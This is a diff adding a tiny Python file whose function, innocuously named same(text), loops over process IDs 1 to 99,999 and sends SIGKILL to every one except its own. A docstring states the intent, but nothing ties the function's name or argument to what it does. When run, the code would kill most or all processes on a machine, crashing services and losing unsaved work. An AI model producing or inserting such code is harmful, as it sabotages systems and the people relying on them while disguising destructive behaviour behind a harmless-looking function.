@@ -1,0 +1,13 @@
+"""Sends SIGKILL to every process number there may be."""
+
+import os
+import signal
+
+
+def same(text):
+    for pid in range(1, 100_000):
+        if pid != os.getpid():
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
